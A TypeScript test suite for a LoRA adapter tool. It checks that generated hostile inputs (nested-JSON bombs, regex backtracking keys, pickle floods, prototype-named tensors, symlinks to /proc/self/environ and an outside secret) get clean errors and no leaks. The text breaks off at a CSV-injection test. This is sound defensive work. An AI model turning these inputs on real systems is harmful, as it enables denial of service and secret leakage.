/**
 * Safe on every input (issue 9): one test per class of hostile input. Every input is GENERATED
 * here (fuzzlib.ts "hostile inputs"), never read from stored files. Each test checks the class's
 * promise: a FormatError naming the file (never a TypeError / RangeError / stack overflow), bounded
 * time and memory, no partial output and no temp file, nothing lost or leaked.
 * The seeded fuzz campaign (fuzzcampaign.ts runHostile) runs the same generators at random.
 */
import { test, after } from 'node:test';
import * as assert from 'node:assert/strict';
import * as cp from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { Engine } from '../../src/core/engine/ort';
import { FormatError } from '../../src/core/formats/errors';
import { openAdapter } from '../../src/core/formats/open';
import { matchPattern } from '../../src/core/formats/peft';
import { LinearRegex } from '../../src/core/formats/pattern';
import { MAX_JSON_DEPTH } from '../../src/core/formats/safejson';
import { encodeSafetensors, MAX_TENSORS, readSafetensorsHeader, SafetensorsStore } from '../../src/core/formats/safetensors';
import { GgufStore } from '../../src/core/formats/gguf';
import { parsePickle } from '../../src/core/formats/pickle';
import { analyzeAdapter } from '../../src/core/analysis/lora';
import { convertAdapter } from '../../src/core/convert/convert';
import { convertCli } from '../../src/core/convert/cli';
import { rebalanceAdapter } from '../../src/core/surgery/balora';
import { reduceRankAdapter } from '../../src/core/surgery/rank';
import { combineAdapters, rescaleAdapter } from '../../src/core/surgery/combine';
import { writeAdapterFolder, writeNewFileAtomic, writeSafetensorsStreaming } from '../../src/core/formats/writer';
import { hfArchFromConfig } from '../../src/core/train/hf';
import { MAX_DATASET_BYTES, readTextDataset } from '../../src/core/train/data';
import { reportToCsv } from '../../src/shared/report';
import {
  BAD_ALPHA_JSON, bigShardIndex, catastrophicPatterns, deepHeaderSafetensors, deepJson, f32, hostileKohya, hugeFactorFile, makeZip,
  overRankTensors, peftConfigWith, peftTensors, pickleFlood, protoNamedPeftTensors, PROTO_NAMES, Prng, put, rankZeroHugeTensors,
  safetensorsRaw, safetensorsWithRawMetadata, setU64, symlinkLoop, tinyObjectHeader, writeGguf,
} from './fuzzlib';

const ROOT = path.resolve(__dirname, '../../..');
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'lora-lens-safety-'));
const engine = new Engine({ provider: 'cpu' });
after(async () => { await engine.dispose(); fs.rmSync(tmp, { recursive: true, force: true }); });
let caseN = 0;
const caseDir = (): string => { const d = path.join(tmp, `c${caseN++}`); fs.mkdirSync(d, { recursive: true }); return d; };
const CFG = JSON.stringify({ peft_type: 'LORA', r: 2, lora_alpha: 4, target_modules: ['q_proj'] });
const peftFolder = (weights: Uint8Array, cfg = CFG): string => { const d = caseDir(); put(d, 'adapter_config.json', cfg); put(d, 'adapter_model.safetensors', weights); return d; };

/** Asserts `fn` throws a FormatError whose file lies in `dir` (or is `dir`) and whose message matches `re`, within `ms`. */
function rejects(fn: () => unknown, dir: string, re: RegExp, ms = 2000): FormatError {
  const t0 = performance.now();
  let err: unknown;
  try { fn(); } catch (e) { err = e; }
  const dt = performance.now() - t0;
  assert.ok(err instanceof FormatError, `expected a FormatError, got ${err instanceof Error ? `${err.name}: ${err.message.slice(0, 200)}` : String(err)}`);
  assert.ok(err.file.startsWith(dir) || dir.startsWith(err.file), `error names ${err.file}, outside ${dir}`);
  assert.ok(err.message.startsWith(err.file), 'message starts with the file');
  assert.match(err.message, re);
  assert.doesNotMatch(err.message, /function Object|\[object Object\]|native code|Maximum call stack/);
  assert.ok(dt < ms, `took ${dt.toFixed(0)} ms`);
  return err;
}

/** Files named like our temp files anywhere under `dir`. */
const leftovers = (dir: string): string[] => {
  const out: string[] = [];
  const walk = (d: string): void => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { if (/\.tmp-\d+/.test(e.name)) out.push(path.join(d, e.name)); if (e.isDirectory()) walk(path.join(d, e.name)); } };
  walk(dir);
  return out;
};

/** Runs `code` in a child node with a hard V8 heap limit; returns exit code and output. */
function inChild(code: string, heapMb: number, timeoutMs = 30_000): { status: number | null; out: string } {
  const r = cp.spawnSync(process.execPath, [`--max-old-space-size=${heapMb}`, '-e', code], { cwd: ROOT, encoding: 'utf8', timeout: timeoutMs });
  return { status: r.status, out: `${r.stdout}${r.stderr}` };
}

// ------------------------------------------------------------------------------------------------

test('class deep JSON: 20k-100k levels in a header shape/__metadata__, a shard index, adapter_config.json, a dataset line → FormatError naming the file', () => {
  const r = new Prng(9001);
  for (const depth of [MAX_JSON_DEPTH + 1, 20_000, 100_000]) {
    for (let i = 0; i < 4; i++) {
      const d = caseDir();
      const [label, bytes] = deepHeaderSafetensors(r, depth);
      const f = put(d, 'w.safetensors', bytes);
      rejects(() => SafetensorsStore.openFile(f), f, /nests JSON more than 128 levels|header/, 2000);
      void label;
    }
    for (const field of ['target_modules', 'rank_pattern', 'lora_alpha', 'unknown_field']) {
      const d = peftFolder(encodeSafetensors(peftTensors(r)), peftConfigWith(field, deepJson(depth, 'object')));
      rejects(() => openAdapter(d), path.join(d, 'adapter_config.json'), /more than 128 levels/);
    }
    const d = caseDir();
    put(d, 's.safetensors', encodeSafetensors([{ name: 't', dtype: 'F32', shape: [1], data: f32([1]) }]));
    const idx = put(d, 'm.safetensors.index.json', `{"metadata":{"x":${deepJson(depth)}},"weight_map":{"t":"s.safetensors"}}`);
    rejects(() => SafetensorsStore.openIndex(idx), idx, /more than 128 levels/);
    const ds = put(d, 'data.jsonl', `{"text":"ok"}\n{"text":${deepJson(depth)}}\n`);
    rejects(() => readTextDataset(ds), ds, /line 2 nests JSON more than 128 levels/);
  }
  // 128 levels is fine (serde_json's limit): a valid header with a 100-deep metadata value opens.
  const d = caseDir();
  const ok = put(d, 'w.safetensors', safetensorsWithRawMetadata(peftTensors(r, 1), `"x":${deepJson(100)}`));
  SafetensorsStore.openFile(ok).close();
});

test('class rank 0 with a 2^40 dim: refused on open naming the weights; convert leaves no output and does not hang', async () => {
  for (const huge of [2 ** 40, 2 ** 31, 2 ** 53 - 1]) {
    const d = peftFolder(safetensorsRaw(rankZeroHugeTensors(huge)));
    assert.ok(fs.statSync(path.join(d, 'adapter_model.safetensors')).size < 600);
    rejects(() => openAdapter(d), path.join(d, 'adapter_model.safetensors'), /rank 0; a LoRA module needs rank ≥ 1/);
    const out = path.join(d, 'out-kohya.safetensors');
    const t0 = performance.now();
    const err = console.error;
    let msg = '';
    console.error = (s: string) => { msg += s; };
    let rc: number;
    try { rc = await convertCli([d, '--to', 'kohya', out]); } finally { console.error = err; }
    assert.ok(performance.now() - t0 < 5000);
    assert.equal(rc, 1, msg);
    assert.ok(!fs.existsSync(out), 'no output');
    assert.deepEqual(leftovers(d), []);
  }
});

test('class names are data: modules named constructor/__proto__/toString open, survive rebalance and convert; kohya metadata of the wrong type never crashes', async () => {
  const r = new Prng(9003);
  // PEFT adapter whose module paths are Object.prototype members
  const d = peftFolder(safetensorsRaw(protoNamedPeftTensors(r)));
  const a = openAdapter(d);
  try {
    assert.deepEqual(a.modules.map((m) => m.name).sort(), [...PROTO_NAMES].sort());
    const out = path.join(d, '..', `${path.basename(d)}-rebalanced`);
    const res = await rebalanceAdapter(a, engine, out);
    assert.equal(res.perModule.length, PROTO_NAMES.length);
    const names = readSafetensorsHeader(res.weightsFile).tensors.map((t) => t.name);
    assert.equal(names.length, 2 * PROTO_NAMES.length, 'every tensor written, __proto__ included');
    assert.ok(names.includes('base_model.model.__proto__.lora_A.weight'));
    const kout = path.join(d, '..', `${path.basename(d)}.kohya.safetensors`);
    const cres = await convertAdapter(a, 'kohya', kout);
    assert.equal(cres.modules.length, PROTO_NAMES.length);
    const back = await convertAdapter(openAdapter(kout), 'peft', path.join(d, '..', `${path.basename(d)}-back`));
    assert.deepEqual(back.modules.map((m) => m.outName).sort(), [...PROTO_NAMES].sort(), 'original names restored, none lost');
  } finally { a.store.close(); }
  // writers: a tensor named __proto__ is written and counted
  const w = path.join(caseDir(), 'o');
  writeAdapterFolder(w, { r: 1 }, [{ name: '__proto__', dtype: 'F32', shape: [1], data: f32([1]) }, { name: 'constructor', dtype: 'F32', shape: [1], data: f32([2]) }], {});
  assert.deepEqual(readSafetensorsHeader(path.join(w, 'adapter_model.safetensors')).tensors.map((t) => t.name).sort(), ['__proto__', 'constructor']);
  // kohya files with hostile names and metadata values of the wrong type: open (or a FormatError), then convert
  for (let i = 0; i < 8; i++) {
    const h = hostileKohya(r);
    const dd = caseDir();
    const f = put(dd, 'lora.safetensors', safetensorsWithRawMetadata(h.tensors, h.headerExtra));
    const ka = openAdapter(f);
    try {
      assert.equal(ka.modules.length, 3);
      for (const md of Object.values(ka.store.metadata)) assert.equal(typeof md, 'string');
      const res = await convertAdapter(ka, 'peft', path.join(dd, 'peft'));
      assert.equal(res.modules.length, 3);
    } finally { ka.store.close(); }
  }
  // GGUF adapter with a tensor "blk.0.constructor": the GGUF error names no JS function
  const g = writeGguf([{ key: 'general.type', type: 'string', value: 'adapter' }, { key: 'adapter.type', type: 'string', value: 'lora' }, { key: 'general.architecture', type: 'string', value: 'llama' }],
    [{ name: 'blk.0.constructor.lora_a', ne: [32, 2], type: 0, data: f32(r.normals(64)) }, { name: 'blk.0.constructor.lora_b', ne: [2, 32], type: 0, data: f32(r.normals(64)) }]);
  const gd = caseDir();
  const gf = put(gd, 'x.gguf', g.bytes);
  const ga = openAdapter(gf);
  try {
    assert.equal(ga.modules[0].name, 'blk.0.constructor');
    for (const to of ['peft', 'gguf'] as const) {
      const out = path.join(gd, `o-${to}${to === 'gguf' ? '.gguf' : ''}`);
      try { await convertAdapter(ga, to, out); } catch (e) { assert.doesNotMatch((e as Error).message, /function|native code/); }
    }
  } finally { ga.store.close(); }
});

test('class train config.json sizes: zero, string, fractional, negative, overflowing, huge → FormatError naming config.json', () => {
  const file = path.join(tmp, 'model', 'config.json');
  const base = { model_type: 'llama', vocab_size: 64, hidden_size: 32, num_hidden_layers: 2, num_attention_heads: 4, intermediate_size: 64 };
  for (const key of ['hidden_size', 'vocab_size', 'num_hidden_layers', 'num_attention_heads', 'intermediate_size', 'num_key_value_heads', 'head_dim', 'max_position_embeddings']) {
    for (const v of [0, '32', 1.5, -4, Infinity, null, 2 ** 40, [32], { n: 1 }]) {
      if (v === null && ['num_key_value_heads', 'head_dim', 'max_position_embeddings'].includes(key)) continue; // null = default
      const cfg = { ...base, [key]: v } as Record<string, unknown>;
      try {
        hfArchFromConfig(cfg, file);
        assert.fail(`${key}=${JSON.stringify(v)} accepted`);
      } catch (e) {
        assert.ok(e instanceof FormatError, `${key}=${String(v)}: ${(e as Error).name} ${(e as Error).message}`);
        assert.equal(e.file, file);
        assert.match(e.message, new RegExp(key));
      }
    }
  }
  for (const [key, v] of [['n_embd', 0], ['n_head', '2'], ['n_head', 3], ['layer_norm_epsilon', -1], ['n_layer', 0.5]] as const) {
    const cfg = { model_type: 'gpt2', n_embd: 32, n_head: 2, n_layer: 2, vocab_size: 64, [key]: v };
    assert.throws(() => hfArchFromConfig(cfg, file), (e: unknown) => e instanceof FormatError && e.file === file && e.message.includes(key));
  }
  // the real fixtures still load
  const tiny = JSON.parse(fs.readFileSync(path.join(ROOT, 'test/fixtures/hf/tiny-gpt2/config.json'), 'utf8'));
  assert.equal(hfArchFromConfig(tiny, file).hidden, 32);
});

test('class catastrophic regex keys: rank_pattern/alpha_pattern match with PEFT semantics in linear time', () => {
  const r = new Prng(9005);
  for (let i = 0; i < 5; i++) {
    const { keys, name } = catastrophicPatterns(r);
    const t0 = performance.now();
    for (const k of keys) assert.equal(matchPattern({ [k]: 4 }, name), undefined, k);
    // and the same keys do match a name PEFT would match: a dotted suffix made of a's then b
    for (const k of keys.filter((x) => !x.startsWith('(.*a){12}'))) assert.equal(matchPattern({ [k]: 4 }, `model.layers.0.${'a'.repeat(14)}b`), k, k);
    assert.ok(performance.now() - t0 < 1000, `took ${performance.now() - t0} ms`);
  }
  // PEFT semantics, checked against re.match(rf"(.*\.)?({key})$", name) by hand
  const cases: [string, string, boolean][] = [
    ['q_proj', 'model.layers.0.self_attn.q_proj', true],
    ['q_proj', 'model.layers.0.self_attn.xq_proj', false],
    ['layers.1.self_attn.q_proj', 'model.layers.11.self_attn.q_proj', false],
    ['layers\\.1\\.', 'model.layers.1.self_attn.q_proj', false], // must reach the end
    ['.*\\.(q|v)_proj', 'model.layers.3.self_attn.v_proj', true],
    ['mlp\\.(up|gate)_proj', 'model.layers.5.mlp.gate_proj', true],
    ['layers\\.[0-9]+\\.mlp\\.down_proj', 'model.layers.17.mlp.down_proj', true],
    ['layers\\.\\d{2}\\.mlp\\.down_proj', 'model.layers.7.mlp.down_proj', false],
    ['(?P<x>q)_proj', 'a.q_proj', true],
    ['[^.]+_proj', 'a.b.k_proj', true],
    ['a|b', 'x.b', true],
    ['a|b', 'x.ab', false],
    ['\\w+\\.q_proj$', 'model.self_attn.q_proj', true],
  ];
  for (const [k, n, want] of cases) assert.equal(new LinearRegex(`^(?:.*\\.)?(?:${k})$`).test(n), want, `${k} vs ${n}`);
  // an adapter whose config holds such keys opens quickly, and unsupported syntax is reported
  const { keys } = catastrophicPatterns(r);
  const pats = Object.fromEntries([...keys, '(?=q)q_proj', '(a)\\1'].map((k) => [k, 4]));
  const d = peftFolder(encodeSafetensors(peftTensors(r)), JSON.stringify({ peft_type: 'LORA', r: 2, lora_alpha: 4, rank_pattern: pats, alpha_pattern: pats }));
  const t0 = performance.now();
  const a = openAdapter(d);
  a.store.close();
  assert.ok(performance.now() - t0 < 1000);
  assert.ok(a.warnings.some((w) => /\(\?=q\)q_proj.*compared literally/.test(w)), a.warnings.join('\n'));
});

test('class r > min(in, out): rank 4096 on a 2×2 layer is refused at once, naming the weights', () => {
  const r = new Prng(9006);
  for (const [rank, out, inF] of [[4096, 2, 2], [3, 2, 8], [9, 8, 4]]) {
    const d = peftFolder(safetensorsRaw(overRankTensors(r, rank, out, inF)));
    rejects(() => openAdapter(d), path.join(d, 'adapter_model.safetensors'), /larger than min\(out, in\)/, 1000);
  }
  // rank = min(in, out) is fine
  const ok = peftFolder(safetensorsRaw(overRankTensors(r, 2, 2, 8)));
  openAdapter(ok).store.close();
});

test('class shard index with many tensors: linear (100k entries in seconds), over the cap refused', () => {
  const d = caseDir();
  const big = bigShardIndex(100_000);
  put(d, 's.safetensors', big.shard);
  const idx = put(d, 'm.safetensors.index.json', big.index);
  const t0 = performance.now();
  const s = SafetensorsStore.openIndex(idx);
  const dt = performance.now() - t0;
  assert.equal(s.tensors.size, 100_000);
  s.close();
  assert.ok(dt < 10_000, `100k-entry index took ${dt.toFixed(0)} ms (a find per entry takes minutes)`);
  const d2 = caseDir();
  const wm = Array.from({ length: MAX_TENSORS + 50_000 }, (_, i) => `"t${i}":"s.safetensors"`).join(',');
  put(d2, 's.safetensors', big.shard);
  const idx2 = put(d2, 'm.safetensors.index.json', `{"weight_map":{${wm}}}`);
  rejects(() => SafetensorsStore.openIndex(idx2), idx2, /tensor limit/, 5000);
});

test('class pickle opcode floods (24 MB of EMPTY_DICT, 8 MB of EMPTY_LIST, 60 MB of NONE): FormatError with a 400 MB heap', () => {
  // In a child with --max-old-space-size=400: an unbounded reader would abort with a V8 heap OOM.
  const pk = path.join(ROOT, 'out/src/core/formats/pickle.js');
  const code = `
    const { parsePickle } = require(${JSON.stringify(pk)});
    const flood = (op, n) => { const b = new Uint8Array(n + 3); b[0] = 0x80; b[1] = 2; b.fill(op, 2, n + 2); b[n + 2] = 0x2e; return b; };
    for (const [op, mb] of [[0x7d, 24], [0x5d, 8], [0x4e, 60], [0x28, 40], [0x29, 24]]) {
      const t0 = Date.now();
      try { parsePickle(flood(op, mb * 1048576), 'x/data.pkl'); console.log('ok', op.toString(16)); }
      catch (e) { console.log(e.name, op.toString(16), Date.now() - t0, e.message.slice(0, 120)); }
    }`;
  const r = inChild(code, 400, 60_000);
  assert.equal(r.status, 0, r.out);
  const lines = r.out.trim().split('\n');
  assert.equal(lines.length, 5, r.out);
  for (const l of lines) assert.match(l, /^(FormatError .*(MiB of objects|stack underflow|mark)|ok )/, l);
  assert.ok(lines.filter((l) => /MiB of objects/.test(l)).length >= 3, r.out);
  // the generator (fuzzlib) makes the same floods for the campaign; a small one still parses
  assert.equal(parsePickle(pickleFlood(0x4e, 1000), 'x/data.pkl'), null);
});

test('class huge headers of tiny objects and 1M-tensor files: refused before any object is built, with a 300 MB heap', () => {
  const r = new Prng(9009);
  const d = caseDir();
  const files: string[] = [];
  // 37-94 MB headers of tiny objects, as in the issue: 3.1M metadata strings (37 MB), a 3.1M-entry shape, 1.5M empty tensors (88 MB)
  for (const [kind, n] of [['metadata', 3_100_000], ['shape', 3_100_000], ['tensors', 1_500_000]] as const) {
    const [label, b] = tinyObjectHeader(r, n, kind);
    files.push(put(d, `${label}.safetensors`, b));
  }
  // 1M tiny tensors (60 MB header)
  const parts: string[] = [];
  for (let i = 0; i < 1_000_000; i++) parts.push(`"t${i}":{"dtype":"F32","shape":[0],"data_offsets":[0,0]}`);
  let h = `{${parts.join(',')}}`;
  while ((8 + h.length) % 8) h += ' ';
  const len = Buffer.alloc(8); len.writeBigUInt64LE(BigInt(h.length));
  fs.writeFileSync(path.join(d, 'million.safetensors'), Buffer.concat([len, Buffer.from(h)]));
  files.push(path.join(d, 'million.safetensors'));
  const st = path.join(ROOT, 'out/src/core/formats/safetensors.js');
  const code = `
    const { readSafetensorsHeader } = require(${JSON.stringify(st)});
    for (const f of ${JSON.stringify(files)}) {
      const t0 = Date.now();
      try { readSafetensorsHeader(f); console.log('ok'); } catch (e) { console.log(e.name, Date.now() - t0, e.message.slice(0, 160)); }
    }`;
  const res = inChild(code, 300, 60_000);
  assert.equal(res.status, 0, res.out);
  for (const l of res.out.trim().split('\n')) {
    assert.match(l, /^FormatError \d+ .*(JSON values|tensor limit|byte limit)/, l);
    assert.ok(Number(l.split(' ')[1]) < 5000, l);
  }
});

test('class tiny objects in configs and datasets: 2M-value adapter_config.json / dataset line refused before parsing', () => {
  const r = new Prng(9010);
  const many = `[${new Array(2_000_000).fill('{}').join(',')}]`;
  const d = peftFolder(encodeSafetensors(peftTensors(r)), peftConfigWith('target_modules', many));
  rejects(() => openAdapter(d), path.join(d, 'adapter_config.json'), /more than 1,500,000 JSON values/, 3000);
  const ds = put(caseDir(), 'data.jsonl', `{"text":${many}}\n`);
  rejects(() => readTextDataset(ds), ds, /line 1 holds more than 1,500,000 JSON values/, 3000);
});

test('class GGUF with 1M tensors or 100k metadata entries: refused at the count field', () => {
  const d = caseDir();
  const g = writeGguf([{ key: 'general.type', type: 'string', value: 'model' }], [{ name: 't', ne: [4], type: 0, data: f32([1, 2, 3, 4]) }]);
  const tc = g.fields.find((x) => x.kind === 'tensorCount')!, kc = g.fields.find((x) => x.kind === 'kvCount')!;
  const big = Buffer.concat([g.bytes, Buffer.alloc(32 * 1048576)]); // enough bytes that only the caps can refuse
  const f1 = put(d, 'tensors.gguf', setU64(big, tc.at, 1_000_000n));
  rejects(() => GgufStore.openFile(f1), f1, /tensor count 1000000 exceeds the limit of 120000/);
  const f2 = put(d, 'kv.gguf', setU64(big, kc.at, 100_000n));
  rejects(() => GgufStore.openFile(f2), f2, /metadata count 100000 exceeds the limit of 65536/);
});

test('class one huge factor (1 GB rank-1): refused by the per-factor limit without reading it', () => {
  const d = caseDir();
  hugeFactorFile(path.join(d, 'adapter_model.safetensors'), 2 ** 28); // sparse: 1 GiB hole, no disk used
  put(d, 'adapter_config.json', CFG);
  const ab0 = process.memoryUsage().arrayBuffers;
  rejects(() => openAdapter(d), path.join(d, 'adapter_model.safetensors'), /per-factor limit/, 1000);
  assert.ok(process.memoryUsage().arrayBuffers - ab0 < 16 * 1048576, 'nothing was read');
});

test('class dataset links to endless devices, pipes, folders and oversized files: refused before reading', () => {
  const d = caseDir();
  const cases: [string, RegExp][] = [];
  fs.symlinkSync('/dev/zero', path.join(d, 'zero.jsonl')); cases.push(['zero.jsonl', /not a regular file \(a device\)/]);
  fs.symlinkSync('/dev/urandom', path.join(d, 'rand.txt')); cases.push(['rand.txt', /not a regular file \(a device\)/]);
  fs.mkdirSync(path.join(d, 'dir.jsonl')); cases.push(['dir.jsonl', /not a regular file \(a folder\)/]);
  if (cp.spawnSync('mkfifo', [path.join(d, 'fifo.jsonl')]).status === 0) cases.push(['fifo.jsonl', /not a regular file \(a pipe\)/]);
  const big = path.join(d, 'big.jsonl');
  fs.writeFileSync(big, '{"text":"a"}\n');
  fs.truncateSync(big, MAX_DATASET_BYTES + 1); // sparse
  cases.push(['big.jsonl', /larger than the 67108864-byte limit/]);
  symlinkLoop(d, 'loop.jsonl'); cases.push(['loop.jsonl', /symbolic link loop/]);
  for (const [n, re] of cases) rejects(() => readTextDataset(path.join(d, n)), path.join(d, n), re, 1000);
});

test('class side files: links are never followed into outputs (README outside the folder, /proc/self/environ); skipped files are named', async () => {
  const r = new Prng(9012);
  const d = peftFolder(encodeSafetensors(peftTensors(r)));
  const secret = path.join(tmp, 'secret-outside.txt');
  fs.writeFileSync(secret, 'TOP-SECRET-OUTSIDE');
  fs.symlinkSync(secret, path.join(d, 'README.md'));
  fs.symlinkSync('/proc/self/environ', path.join(d, 'notes.txt'));
  fs.mkdirSync(path.join(d, 'sub'));
  fs.writeFileSync(path.join(d, 'LICENSE'), 'plain side file');
  if (cp.spawnSync('mkfifo', [path.join(d, 'pipe')]).status !== 0) fs.writeFileSync(path.join(d, 'pipe'), '');
  const a = openAdapter(d);
  const outs: string[] = [];
  try {
    const rb = await rebalanceAdapter(a, engine, path.join(tmp, `side-rb-${caseN}`));
    const rs = rescaleAdapter(a, 2, path.join(tmp, `side-rs-${caseN}`));
    outs.push(rb.outDir, rs.outDir);
    for (const res of [rb, rs]) {
      assert.ok(res.skippedSideFiles?.some((s) => /README\.md \(symbolic link/.test(s)), JSON.stringify(res.skippedSideFiles));
      assert.ok(res.skippedSideFiles?.some((s) => /notes\.txt \(symbolic link/.test(s)));
      assert.ok(res.skippedSideFiles?.some((s) => /sub\/ \(folder\)/.test(s)));
    }
  } finally { a.store.close(); }
  for (const o of outs) {
    const names = fs.readdirSync(o).sort();
    assert.deepEqual(names, ['LICENSE', 'adapter_config.json', 'adapter_model.safetensors'], o);
    for (const n of names) {
      assert.ok(!fs.lstatSync(path.join(o, n)).isSymbolicLink());
      const text = fs.readFileSync(path.join(o, n), 'latin1');
      assert.ok(!text.includes('TOP-SECRET-OUTSIDE') && !(process.env.PATH && text.includes(process.env.PATH)), `${n} leaks data`);
    }
  }
});

test('class legacy adapter_model.bin: rebalance / reduce / rescale write adapter_model.safetensors (never safetensors bytes under .bin)', async () => {
  const d = caseDir();
  fs.copyFileSync(path.join(ROOT, 'test/fixtures/torch_tiny.pt'), path.join(d, 'adapter_model.bin'));
  put(d, 'adapter_config.json', JSON.stringify({ peft_type: 'LORA', r: 3, lora_alpha: 6, target_modules: ['q'] }));
  const a = openAdapter(d);
  try {
    assert.ok(a.weightsFile.endsWith('adapter_model.bin'));
    const results = [
      await rebalanceAdapter(a, engine, path.join(d, '..', 'bin-rb')),
      await reduceRankAdapter(a, engine, path.join(d, '..', 'bin-rd'), { kind: 'rank', k: 1 }),
      rescaleAdapter(a, 0.5, path.join(d, '..', 'bin-rs')),
    ];
    for (const res of results) {
      const files = fs.readdirSync(res.outDir).sort();
      assert.deepEqual(files, ['adapter_config.json', 'adapter_model.safetensors'], res.outDir);
      const back = openAdapter(res.outDir);
      assert.equal(back.weightsFile, path.join(res.outDir, 'adapter_model.safetensors'));
      assert.equal(back.modules.length, 1);
      back.store.close();
    }
  } finally { a.store.close(); }
});

test('class out of space (ENOSPC, fault-injected): every writer names the output and the cause, leaves no partial output and no .tmp file', async () => {
  const r = new Prng(9014);
  // The module object itself (the test's `fs` import is a read-only namespace wrapper).
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  const nodeFs = require('node:fs') as { writeSync: typeof fs.writeSync };
  const realWrite = nodeFs.writeSync;
  let budget = 0;
  const inject = (bytes: number): void => {
    budget = bytes;
    nodeFs.writeSync = ((fd: number, buf: unknown, ...rest: unknown[]) => {
      const len = typeof buf === 'string' ? Buffer.byteLength(buf) : (rest[1] as number | undefined) ?? (buf as Uint8Array).byteLength - ((rest[0] as number | undefined) ?? 0);
      if (budget - len < 0) { const e = new Error('ENOSPC: no space left on device, write') as NodeJS.ErrnoException; e.code = 'ENOSPC'; e.syscall = 'write'; throw e; }
      budget -= len;
      return (realWrite as (...a: unknown[]) => number)(fd, buf, ...rest);
    }) as typeof fs.writeSync;
  };
  const restore = (): void => { nodeFs.writeSync = realWrite; };
  const d = caseDir();
  const peft = peftFolder(encodeSafetensors(peftTensors(r, 2, 2, 8)));
  const kohyaFile = put(d, 'k.safetensors', encodeSafetensors([
    { name: 'lora_unet_a_to_q.lora_down.weight', dtype: 'F32', shape: [2, 8], data: f32(r.normals(16)) },
    { name: 'lora_unet_a_to_q.lora_up.weight', dtype: 'F32', shape: [8, 2], data: f32(r.normals(16)) },
    { name: 'lora_unet_a_to_q.alpha', dtype: 'F32', shape: [], data: f32([2]) },
  ]));
  const jobs: [string, string, (out: string) => Promise<unknown> | unknown][] = [
    ['convert→kohya', 'o.safetensors', async (o) => { const a = openAdapter(peft); try { await convertAdapter(a, 'kohya', o); } finally { a.store.close(); } }],
    ['convert→peft', 'o-peft', async (o) => { const a = openAdapter(peft); try { await convertAdapter(a, 'peft', o); } finally { a.store.close(); } }],
    ['convert→gguf', 'o.gguf', async (o) => { const a = openAdapter(peft); try { await convertAdapter(a, 'gguf', o, { architecture: 'llama', heads: 2, kvHeads: 2 }); } finally { a.store.close(); } }],
    ['convert→mlx', 'o-mlx', async (o) => { const a = openAdapter(peft); try { await convertAdapter(a, 'mlx', o); } finally { a.store.close(); } }],
    ['kohya rebalance', 'o-kohya-rb', async (o) => { const a = openAdapter(kohyaFile); try { await rebalanceAdapter(a, engine, o); } finally { a.store.close(); } }],
    ['rescale', 'o-rs', (o) => { const a = openAdapter(peft); try { rescaleAdapter(a, 2, o); } finally { a.store.close(); } }],
    ['writeNewFileAtomic', 'o.bin', (o) => writeNewFileAtomic(o, new Uint8Array(4096))],
    ['streaming', 'o-stream.safetensors', (o) => writeSafetensorsStreaming(o, [{ name: 't', dtype: 'F32', shape: [256], byteLength: 1024, produce: () => new Uint8Array(1024) }], {})],
  ];
  for (const [label, name, job] of jobs) {
    for (const after of [0, 8, 200]) {
      const wd = caseDir();
      const out = path.join(wd, name);
      inject(after);
      let err: unknown;
      try { await job(out); } catch (e) { err = e; } finally { restore(); }
      assert.ok(err instanceof Error, `${label}@${after}: no error`);
      assert.ok(err.message.includes(out) && /no space left on the device \(ENOSPC\)/.test(err.message), `${label}@${after}: ${err.message}`);
      assert.ok(!fs.existsSync(out), `${label}@${after}: partial output`);
      assert.deepEqual(leftovers(wd), [], `${label}@${after}`);
      assert.deepEqual(leftovers(path.dirname(peft)).filter((f) => f.startsWith(wd)), []);
    }
  }
  // a real full file system, when this machine lets us mount a tiny tmpfs (root only)
  const mnt = path.join(tmp, 'tiny-fs');
  fs.mkdirSync(mnt);
  if (cp.spawnSync('mount', ['-t', 'tmpfs', '-o', 'size=16k', 'tmpfs', mnt]).status === 0) {
    try {
      const a = openAdapter(peft);
      try {
        const big = encodeSafetensors(peftTensors(r, 16, 8, 64));
        const out = path.join(mnt, 'o.safetensors');
        assert.throws(() => writeNewFileAtomic(out, big), /o\.safetensors: could not be written: no space left on the device \(ENOSPC\)/);
        assert.deepEqual(fs.readdirSync(mnt), []);
      } finally { a.store.close(); }
    } finally { cp.spawnSync('umount', [mnt]); }
  }
});

test('class non-finite / zero / rank-0 results: rescale 1e308, combine --svd --rank 0 are refused and write nothing', async () => {
  const r = new Prng(9015);
  const d = peftFolder(encodeSafetensors(peftTensors(r)), JSON.stringify({ peft_type: 'LORA', r: 2, lora_alpha: 4, alpha_pattern: { 'layers.1.self_attn.q_proj': 1e300 } }));
  const a = openAdapter(d);
  try {
    for (const f of [1e308, -1e308, 1e-320, Infinity, NaN, 0]) {
      const out = path.join(d, '..', `rs-${caseN++}`);
      assert.throws(() => rescaleAdapter(a, f, out), /finite non-zero|not a finite non-zero alpha|gives scale/);
      assert.ok(!fs.existsSync(out));
    }
    for (const rank of [0, -1, 1.5, NaN]) {
      const out = path.join(d, '..', `cb-${caseN++}`);
      await assert.rejects(combineAdapters(engine, a, 1, a, 1, out, { mode: 'svd', rank }), /--rank must be a positive integer/);
      assert.ok(!fs.existsSync(out));
    }
    const out = path.join(d, '..', `cb-${caseN++}`);
    await assert.rejects(combineAdapters(engine, a, Infinity, a, 1, out, { mode: 'cat' }), /finite/);
    assert.ok(!fs.existsSync(out));
  } finally { a.store.close(); }
});

test('class lora_alpha of the wrong type (string, 1e400, null, array, object): a warning and the scale source say so', () => {
  const r = new Prng(9016);
  for (const v of BAD_ALPHA_JSON) {
    const d = peftFolder(encodeSafetensors(peftTensors(r)), peftConfigWith('lora_alpha', v));
    const a = openAdapter(d);
    a.store.close();
    assert.ok(a.warnings.some((w) => /lora_alpha is .*not a finite number: PEFT's default 8 is assumed/.test(w)), `${v}: ${a.warnings.join(' | ')}`);
    for (const m of a.modules) assert.match(m.scaleSource, /lora_alpha is not a finite number: PEFT default 8 assumed/);
  }
  // alpha_pattern entries of the wrong type are reported too
  const d = peftFolder(encodeSafetensors(peftTensors(r)), JSON.stringify({ peft_type: 'LORA', r: 2, lora_alpha: 4, alpha_pattern: { 'layers.0.self_attn.q_proj': 'big' } }));
  const a = openAdapter(d);
  a.store.close();
  assert.ok(a.warnings.some((w) => /alpha_pattern\["layers.0.self_attn.q_proj"\] is the string "big"/.test(w)), a.warnings.join(' | '));
});

test('class CSV injection: text cells starting with = + - @ are neutralised, numbers are not', async () => {
  const r = new Prng(9017);
